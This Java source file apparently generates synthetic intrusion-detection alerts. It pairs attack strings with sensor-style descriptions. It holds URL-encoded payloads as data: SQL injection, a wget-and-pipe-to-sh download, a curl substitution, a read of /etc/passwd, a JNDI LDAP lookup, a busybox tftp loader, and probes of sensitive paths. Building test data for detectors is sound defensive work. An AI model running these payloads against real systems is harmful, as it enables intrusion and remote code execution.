package io.caltrop.core.synthetic;

import java.util.Random;

/** What attackers do, as a sensor words it: for each alert id texts that go together. */
final class Descriptions {
  private static final String[] HOSTS = {
    "www.example.com",
    "shop.example.com",
    "api.example.net",
    "mail.example.org",
    "203.0.113.10",
    "intranet.example.net",
    "blog.example.org",
    "[2001:db8::10]",
    "portal.example.edu:8080"
  };
  private static final String[] PAGES = {
    "/index.php",
    "/product.php",
    "/login",
    "/search",
    "/api/v1/items",
    "/news.asp",
    "/view.jsp",
    "/catalog/list",
    "/wp-content/plugins/forms/view.php",
    "/cart/add",
    "/user/profile"
  };
  private static final String[] NAMES = {"id", "q", "cat", "page", "user", "item", "sort", "ref"};

  private static final String[][] SQL = {
    {"1%27+OR+%271%27%3D%271", "A condition that is always true in the query"},
    {"-1+UNION+SELECT+NULL,version(),NULL--+", "UNION SELECT in a parameter of the query"},
    {"1%3BDROP+TABLE+orders--", "A second SQL statement after a semicolon"},
    {"5+AND+SLEEP(5)", "A time delay inside a condition"},
    {"1+AND+1%3DCONVERT(int,(SELECT+@@version))", "A conversion that provokes an error message"},
    {"admin%27--+", "A quote and a comment that cut the statement short"},
    {
      "1+UNION+ALL+SELECT+table_name,2+FROM+information_schema.tables", "The list of tables is read"
    },
    {"1)+OR+BENCHMARK(2000000,MD5(1))%23", "A computation that makes the answer late"}
  };
  private static final String[][] RCE = {
    {"%3Bwget+http://203.0.113.66/b.sh+-O-%7Csh", "A shell command that downloads and runs"},
    {"%24(curl+-s+203.0.113.99/k)", "A command substitution in a parameter"},
    {"%7Ccat+/etc/passwd", "A pipe into a command that reads accounts"},
    {"%60id%60", "A command between back-ticks"},
    {"$%7Bjndi:ldap://198.51.100.23:1389/a%7D", "A lookup that loads a class from elsewhere"},
    {"%3Bbusybox+tftp+-g+-r+m.arm+198.51.100.7", "A loader for small devices"},
    {"system(%27uname+-a%27)%3B", "A function that runs programs"},
    {"%7B%7B7*7%7D%7D%7B%7Bconfig.items()%7D%7D", "A template expression that is evaluated"}
  };
  private static final String[] AGENTS = {
    "Empty or missing user agent", "User agent of a scanner: sqlmap/1.7", "User agent nikto/2.5",
    "User agent python-requests/2.6", "User agent Go-http-client/1.1", "User agent zgrab/0.x",
    "User agent holds a shell command", "User agent with 1 character", "User agent Nmap NSE",
    "User agent libwww-perl/6.05", "User agent of a browser from 2004"
  };
  private static final String[][] SSH = {
    {"SSH-2.0-libssh_0.6.3", "Client version with known weaknesses"},
    {"SSH-2.0-Go", "Client that offers obsolete ciphers: 3des-cbc"},
    {"SSH-2.0-paramiko_1.15.2", "Client that offers obsolete ciphers: arcfour"},
    {"SSH-1.99-OpenSSH_3.9p1", "Protocol version 1 is offered"},
    {"SSH-2.0-PUTTY", "Client that hides its version"},
    {"SSH-2.0-JSCH-0.1.51", "Key exchange with a 1024-bit group"},
    {"SSH-2.0-OpenSSH_5.3", "Client version out of support"},
    {"SSH-2.0-libssh2_1.4.3", "Message authentication with MD5"}
  };
  private static final String[][] EXPLOITS = {
    {"/.env", "A path that starts with a dot"},
    {"/.git/config", "A repository's settings are read"},
    {"/cgi-bin/../../../../etc/passwd", "A path that climbs out of the web root"},
    {"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "A test tool that evaluates input"},
    {"/boaform/admin/formLogin", "The login of a home router"},
    {"/actuator/gateway/routes", "A management page that should not be public"},
    {"/solr/admin/info/system", "An administration page of a search server"},
    {"/HNAP1/", "The remote management of a home router"},
    {"/owa/auth/x.js", "A file of a mail server with a known hole"},
    {"/_ignition/execute-solution", "A debug page that runs code"}
  };
  private static final String[][] SCANS = {
    {"t12i180600_", "Many hosts scanned at once (probably masscan)"},
    {"t13i190900_", "Fingerprint of a mass scanner"},
    {"tcp 1024_0_0_", "First packet as zmap sends it"},
    {"tcp 1024_2_1460_", "First packet as masscan sends it"},
    {"t10d070600_", "Fingerprint of a botnet's client"},
    {"q13i0312h3_", "Fingerprint of a scanner that probes QUIC"}
  };
  private static final int[] WEB_PORTS = {80, 80, 80, 8080, 8000, 443, 8443, 8888};
  private static final int[] SSH_PORTS = {22, 22, 22, 2222, 22022};
  private static final int[] SCANNED_PORTS = {
    21, 22, 23, 25, 80, 110, 143, 443, 445, 1433, 3306, 3389, 5060, 5432, 5900, 6379, 8080, 9200,
    11211, 27017
  };

  private Descriptions() {}

  /** What one alert says of itself. */
  record Description(int port, String info, String reason) {}

  /**
   * Makes up the texts of an alert.
   *
   * @param token comes last in the info
   */
  static Description of(int alertId, Random random, String token) {
    return switch (alertId) {
      case 40 -> query(SQL, random, token);
      case 41 -> query(RCE, random, token);
      case 42 ->
          new Description(
              port(WEB_PORTS, random),
              pick(HOSTS, random) + pick(PAGES, random) + "?s=" + token,
              pick(AGENTS, random));
      case 61 -> pair(SSH, "", " ", port(SSH_PORTS, random), random, token);
      case 68 -> pair(EXPLOITS, pick(HOSTS, random), "?", port(WEB_PORTS, random), random, token);
      case 79 -> pair(SCANS, "", "", port(SCANNED_PORTS, random), random, token);
      default -> throw new IllegalArgumentException("no texts for alert id " + alertId);
    };
  }

  private static Description query(String[][] attacks, Random random, String token) {
    String start = pick(HOSTS, random) + pick(PAGES, random) + "?" + pick(NAMES, random) + "=";
    return pair(attacks, start, "&s=", port(WEB_PORTS, random), random, token);
  }

  private static Description pair(
      String[][] attacks, String before, String after, int port, Random random, String token) {
    String[] attack = attacks[random.nextInt(attacks.length)];
    return new Description(port, before + attack[0] + after + token, attack[1]);
  }

  private static String pick(String[] texts, Random random) {
    return texts[random.nextInt(texts.length)];
  }

  private static int port(int[] ports, Random random) {
    return ports[random.nextInt(ports.length)];
  }
}
